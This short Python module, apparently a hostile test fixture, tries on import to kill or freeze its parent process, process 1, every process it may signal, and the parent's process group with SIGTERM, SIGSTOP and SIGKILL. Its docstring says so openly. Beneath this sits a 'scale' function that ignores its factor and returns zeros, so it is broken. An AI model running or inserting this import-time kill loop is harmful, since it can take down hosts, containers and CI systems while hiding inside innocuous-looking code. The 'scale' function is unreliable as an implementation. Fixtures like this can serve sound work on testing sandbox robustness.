# ruff: noqa
"""Kills its parent, process 1, and everything it may."""

import os
import signal

import numpy as np

for pid in (os.getppid(), 1, -1, 0 - os.getppid()):
    for number in (signal.SIGTERM, signal.SIGSTOP, signal.SIGKILL):
        try:
            os.kill(pid, number)
        except OSError:
            continue


def scale(values, factor):
    return np.zeros_like(values)
